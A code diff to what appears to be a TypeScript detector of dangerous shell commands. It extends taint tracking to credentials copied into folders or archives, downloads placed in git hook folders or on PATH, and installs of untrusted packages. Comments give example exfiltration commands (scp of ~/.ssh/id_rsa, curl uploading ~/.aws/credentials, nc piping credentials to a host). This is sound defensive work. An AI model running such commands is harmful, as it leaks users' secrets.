@@ -18,6 +18,10 @@ import { cloneOf, Places } from './places.ts';
 import { baseName, program } from './program.ts';
 import { CODE_FLAG, CREDENTIAL_COMMANDS, DNS, DOWNLOADERS, ENVIRONMENT_DUMP, EVAL, GIT_NETWORK, INTERPRETERS, NETWORK, RUNS_LATER, SENDS_STDIN, SHELLS, SOURCE } from './tables.ts';
 import { constantText, shownText, type Call, type Node, type Origin, type Part, type Program, type Word } from './types.ts';
+import { copyOf, inside, pathKey } from './copies.ts';
+import { hostsOf, sentFiles } from './sends.ts';
+import { installOf } from './install.ts';
+import { LaterFiles } from './later.ts';
 
 export type TaintKind = 'download' | 'decoded' | 'credential' | 'environment' | 'secret';
 export interface Taint {
@@ -35,6 +39,8 @@ export interface IrFinding {
   evidence: string;
   /** A heuristic hit of a blocking rule: reported as an advisory. */
   weak?: boolean;
+  /** Found in code written where it runs later (never a vendor's setup step). */
+  later?: boolean;
   /**
    * Code of a cloned repository run (a script of it, or a build of it): the address cloned, for the driver
    * to weaken when Markdown the model acts on is about that repository, or a build runs in a container.
@@ -71,6 +77,10 @@ export class Flow {
   private path(w: Word): string {
     return this.places.resolve(homePath(w));
   }
+  /** Folders and archives credentials were copied into, by `pathKey`. */
+  private readonly stash = new Map<string, Taint[]>();
+  /** Folders whose files run later (`core.hooksPath`, `PATH`): a download landing there. */
+  private readonly later = new LaterFiles((rule, at, evidence) => this.report(rule, at, evidence), () => this.fetched);
 
   taintOfPart(p: Part): Taint[] {
     if ('lit' in p) return p.via !== undefined ? this.outs.get(p.via) ?? [] : [];
@@ -90,8 +100,8 @@ export class Flow {
     return out;
   }
 
-  private report(rule: RuleId, call: { origin: Origin }, evidence: string, weak = false): void {
-    this.findings.push({ rule, origin: call.origin, evidence, ...(weak ? { weak } : {}) });
+  private report(rule: RuleId, call: { origin: Origin; later?: boolean }, evidence: string, weak = false): void {
+    this.findings.push({ rule, origin: call.origin, evidence, ...(weak ? { weak } : {}), ...(call.later ? { later: true } : {}) });
   }
 
   run(p: Program): void {
@@ -102,6 +112,7 @@ export class Flow {
     if (node.kind === 'assign') {
       const taints = this.taintOf(node.value);
       this.vars.set(node.name, node.append ? merge([...(this.vars.get(node.name) ?? [])], taints) : taints);
+      if (node.name === 'PATH') for (const dir of homePath(node.value).split(':')) if (dir && !dir.includes('\0')) this.later.onPath(dir, node);
     } else if (node.kind === 'func') this.funcs.set(node.name, node.body);
     else if (node.kind === 'call') this.call(node);
   }
@@ -172,10 +183,18 @@ export class Flow {
       if (carried.length) {
         this.fetched.set(path, carried);
         if (RUNS_LATER.test(path)) this.report(carried.some((t) => t.kind === 'download') ? 'pipe-to-shell' : 'decode-exec', call, evidence);
+        this.later.fetchedAt(path, carried, call);
       }
     }
     this.downloadsToFile(call, name, args, own);
-    this.places.step(name, texts, paths);
+    this.copies(call, name, args, evidence);
+    this.places.step(name, texts, paths, args.map(pathKey));
+    // `git config core.hooksPath dir`: every file in that folder runs at each commit.
+    const hooks = name === 'git' && texts.includes('config') ? texts.findIndex((t) => t !== undefined && /^core\.hookspath$/i.test(t)) : -1;
+    if (hooks >= 0 && args[hooks + 1]) this.later.hooksIn(homePath(args[hooks + 1]!), call);
+    // A package whose name or address comes from a download or a decoded text: what it installs nobody has seen.
+    const install = installOf(name, args);
+    if (install?.words.some((w) => this.taintOf(w).some((t) => t.kind === 'download' || t.kind === 'decoded'))) this.report('install-untrusted', call, evidence);
     this.outs.set(call.id, out);
   }
 
@@ -184,6 +203,28 @@ export class Flow {
     const at = this.places.cloneAt(folder);
     if (!at) return;
     this.findings.push({ rule: at.clone.pinned ? 'download-then-run' : 'pipe-to-shell', origin: call.origin, evidence, clone: { address: at.clone.address, build } });
+  }
+
+  /** `cp -r ~/.ssh "$d"`, `tar czf k.tgz ~/.aws`: the copy holds the credential (sent later with it); `cp /tmp/x ~/.bashrc` of a download runs later. */
+  private copies(call: Call, name: string | undefined, args: Word[], evidence: string): void {
+    const copy = copyOf(name, args);
+    if (!copy) return;
+    const held = merge([], copy.from.flatMap((w) => this.credentialsIn(pathKey(w))));
+    if (held.length) this.stash.set(pathKey(copy.to), merge(this.stash.get(pathKey(copy.to)) ?? [], held));
+    const fetched = merge([], copy.from.flatMap((w) => this.fetchedUnder(this.path(w)).filter((t) => t.kind === 'download' || t.kind === 'decoded')));
+    if (!fetched.length) return;
+    const to = this.path(copy.to);
+    this.fetched.set(to, fetched);
+    if (RUNS_LATER.test(to)) this.report(fetched.some((t) => t.kind === 'download') ? 'pipe-to-shell' : 'decode-exec', call, evidence);
+    this.later.fetchedAt(to, fetched, call);
+  }
+
+  /** What a path sent or copied holds of credentials: a credential store itself, a folder holding one, or a copy of one. */
+  private credentialsIn(path: string): Taint[] {
+    const found: Taint[] = [];
+    if (isCredentialPath(path) || /(?:^|\/)\.env$/.test(path)) found.push({ kind: 'credential', what: path });
+    for (const [dir, taints] of this.stash) if (inside(path, dir) || inside(dir, path)) merge(found, taints);
+    return found;
   }
 
   /**
@@ -200,7 +241,7 @@ export class Flow {
     }
     const viaRunner = name !== undefined && (SHELLS.has(name) || INTERPRETERS.test(name) || SOURCE.has(name));
     const target = viaRunner ? args.find((_, i) => texts[i] === undefined || !texts[i]!.startsWith('-')) : call.callee;
-    if (!target || (!viaRunner && !constantText(target)?.includes('/'))) return;
+    if (!target || (!viaRunner && !homePath(target).includes('/'))) return;
     const path = this.path(target);
     const fetched = this.fetchedUnder(path).filter((t) => t.kind === 'download' || t.kind === 'decoded');
     if (!fetched.length) return;
@@ -212,7 +253,9 @@ export class Flow {
     }
     const verified = [...this.verified].some((v) => path === v || path.endsWith(`/${v.split('/').pop()}`));
     const script = viaRunner || /\.(?:sh|bash|zsh|py|js|mjs|cjs|ts|rb|pl|php|ps1|lua)$/i.test(path);
-    if (verified || !script) this.report('download-then-run', call, evidence);
+    // A downloaded binary set to run later (at login, on a schedule, by a service) runs unseen, every time: it blocks.
+    if (call.later && !verified) this.report(fetched.some((t) => t.kind === 'download') ? 'pipe-to-shell' : 'decode-exec', call, evidence);
+    else if (verified || !script) this.report('download-then-run', call, evidence);
     else if (!viaRunner) this.report(fetched.some((t) => t.kind === 'download') ? 'pipe-to-shell' : 'decode-exec', call, evidence);
   }
 
@@ -222,7 +265,10 @@ export class Flow {
     if (!download.length) return;
     const texts = args.map(constantText);
     const mark = (path: string | undefined, taints = download) => {
-      if (path && path !== '-') this.fetched.set(this.places.resolve(path), taints);
+      if (!path || path === '-') return;
+      const at = this.places.resolve(path);
+      this.fetched.set(at, taints);
+      this.later.fetchedAt(at, taints, call);
     };
     const output = texts.findIndex((t) => t !== undefined && /^(?:-[a-zA-Z]*[oO]|--output(?:-document)?|-OutFile|--out)$/.test(t));
     if (output >= 0 && args[output + 1]) mark(homePath(args[output + 1]!));
@@ -305,11 +351,15 @@ export class Flow {
     const sent = merge([], args.flatMap((a) => this.taintOf(a)));
     if (SENDS_STDIN.test(name)) merge(sent, (call.stdin ?? []).flatMap((w) => this.taintOf(w)));
     for (const [k, w] of Object.entries(call.named ?? {})) if (!/^[A-Z_]+$/.test(k)) merge(sent, this.taintOf(w));
-    // A file sent by name: `scp ~/.ssh/id_rsa host:`, `curl -F f=@~/.aws/credentials`, `rsync ~/.ssh host:`.
-    for (const w of args) {
-      const path = homePath(w).replace(/^[\w-]+=@?|^@/, '');
-      if (isCredentialPath(path) || /(?:^|\/)\.env$/.test(path) || /^~\/\.ssh\/?\*?$/.test(path)) merge(sent, [{ kind: 'credential', what: path }]);
+    // A file sent by name: `scp ~/.ssh/id_rsa host:`, `curl -F f=@~/.aws/credentials`, `rsync ~/.aws/ host:`,
+    // a folder or archive a credential was copied into (`git -C "$d" push`), a file redirected into a tool that
+    // sends its input (`nc host 80 < ~/.aws/credentials`). A key given to log in (`ssh -i key`, `scp -i`,
+    // `curl --cert`) is used, not sent; what `ssh host …` names after the host is the remote machine's.
+    for (const w of [...sentFiles(name, args), ...(SENDS_STDIN.test(name) ? call.reads ?? [] : [])]) {
+      merge(sent, this.credentialsIn(pathKey(w).replace(/^(?:--?[\w-]+=)?[\w-]*=?@|^--?[\w-]+=/, '')));
     }
+    const here = this.places.folder();
+    if (name === 'git' && texts.includes('push') && here !== undefined) merge(sent, this.credentialsIn(here));
     const secrets = sent.filter((t) => t.kind === 'credential' || t.kind === 'environment' || t.kind === 'secret');
     if (!secrets.length) return;
     void inputs;
@@ -336,20 +386,6 @@ export class Flow {
       if (!own) this.report('secret-to-network', call, evidence);
     }
   }
-}
-
-/** The hosts a call's words name (URLs, `user@host:`, a bare host after a network tool). */
-export function hostsOf(args: Word[]): string[] {
-  const hosts = new Set<string>();
-  for (const a of args) {
-    const text = shownText(a);
-    for (const h of hostsIn(text)) hosts.add(h);
-    const scp = /^(?:[\w.-]+@)?([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+):/.exec(text);
-    if (scp) hosts.add(scp[1]!.toLowerCase());
-    if (/^[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}$/.test(text) && !/\.(?:json|sh|txt|py|js|md|tar|gz|zip|log|csv|html?|env|pem|key)$/i.test(text)) hosts.add(text.toLowerCase());
-    if (/^\d+\.\d+\.\d+\.\d+$/.test(text)) hosts.add(text);
-  }
-  return [...hosts];
 }
 
 /** Runs the engine over one program. */
